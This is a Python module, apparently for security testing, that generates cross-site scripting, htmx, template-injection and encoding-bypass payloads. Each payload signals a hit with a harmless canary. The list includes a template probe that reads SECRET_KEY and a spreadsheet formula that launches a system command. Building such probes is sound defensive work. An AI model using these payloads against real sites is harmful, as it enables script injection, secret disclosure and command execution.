"""Text that tries to become markup or script: what an attacker types into every field.

Each payload that runs sets `window.__xss`, opens a dialog, or asks for an address with CANARY in
it; each element that it makes has the attribute MARK.
"""

from __future__ import annotations

from itertools import product

CANARY, MARK = "canary", "xssmark"
RUN = "top.__xss=1"
BREAKS = (
    "",
    '">',
    "'>",
    "-->",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "]]>",
    "</svg>",
)
TAGS = (
    f"<script {MARK}>{RUN}</script>",
    f"<img {MARK} src=x onerror={RUN}>",
    f"<svg {MARK} onload={RUN}>",
    f"<svg {MARK}><script>{RUN}</script></svg>",
    f"<svg {MARK}><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<svg {MARK}><use href="/{CANARY}#x"/></svg>',
    f"<details {MARK} open ontoggle={RUN}>",
    f"<input {MARK} autofocus onfocus={RUN}>",
    f"<video {MARK}><source onerror={RUN}></video>",
    f"<body {MARK} onload={RUN}>",
    f"<iframe {MARK} srcdoc='<script>{RUN}</script>'></iframe>",
    f"<iframe {MARK} src=javascript:{RUN}></iframe>",
    f"<object {MARK} data=javascript:{RUN}></object>",
    f"<style {MARK}>@import'/{CANARY}'</style>",
    f"<link {MARK} rel=stylesheet href=/{CANARY}>",
    f"<base {MARK} href=//{CANARY}.invalid/>",
    f"<meta {MARK} http-equiv=refresh content=0;url=/{CANARY}>",
    f"<form {MARK} action=/{CANARY}><button autofocus>",
    f"<math {MARK}><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<noscript {MARK}><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<a {MARK} hx-get=/{CANARY} hx-trigger=load>x</a>",
    f"<a {MARK} data-hx-post=/{CANARY} data-hx-trigger=load>x</a>",
    f"<a {MARK} hx-on::load={RUN} hx-get=/{CANARY} hx-trigger=revealed>x</a>",
    f"<p {MARK} id=live hx-swap-oob=true>x</p>",
    f"<template {MARK}><img src=x onerror={RUN}></template>",
)
ATTRIBUTES = tuple(
    f"{quote} {event}={RUN} {more} {MARK} x={quote}"
    for quote, (event, more) in product(
        ('"', "'", "", "`"),
        (
            ("onmouseover", "style=position:fixed;inset:0"),
            ("onfocus", "autofocus tabindex=0"),
            ("onanimationstart", "style=animation-name:x"),
            ("hx-get", f"hx-trigger=load hx-get=/{CANARY}"),
        ),
    )
)
URLS = tuple(
    f"{scheme}{RUN}"
    for scheme in (
        "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:",
        " javascript:", "javascript&colon;", "&#106;avascript:", "javascript://%0a",
        "data:text/html,<script>", "vbscript:", "//canary.invalid/",
    )
)  # fmt: skip
TEMPLATES = (
    "{{ settings.SECRET_KEY }}", "{{ 7|add:7 }}", "{% include 'base.html' %}", "{% debug %}",
    "{% load static %}", "{# x #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor}}",
    "{% endblock %}{% block content %}",
)  # fmt: skip
ENTITIES = tuple(
    text.replace("RUN", RUN)
    for text in (
        "&lt;img src=x onerror=RUN&gt;", "&#60;script&#62;RUN&#60;/script&#62;", "%3Cscript%3ERUN",
        "\\u003cscript\\u003eRUN", "\uff1cscript\uff1eRUN\uff1c/script\uff1e",
        "<\u200bscript>RUN", "<scr<script>ipt>RUN",
        "<script\x0b>RUN</script>", "<img/src/onerror=RUN>", "<<script>RUN//<</script>",
        "\u202e<script>RUN</script>", "<\u017fcript>RUN</\u017fcript>", "+ADw-script+AD4-RUN",
        "<![CDATA[<script>RUN</script>]]>",
        "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y 'z'>]>&y;",
        "<!--><img src=x onerror=RUN>-->", "=cmd|' /C calc'!A1", "\"};RUN;//", "';RUN;//",
        "</script><script>RUN</script>", "\\';RUN;//", "`${RUN}`", "\u2028RUN", "]]><script>RUN",
    )
)  # fmt: skip


def payloads() -> list[str]:
    """Return every payload, in a fixed order, the shortest forms of each kind first."""
    tags = [f"{start}{tag}" for start, tag in product(BREAKS, TAGS)]
    return list(dict.fromkeys((*tags, *ATTRIBUTES, *URLS, *TEMPLATES, *ENTITIES)))
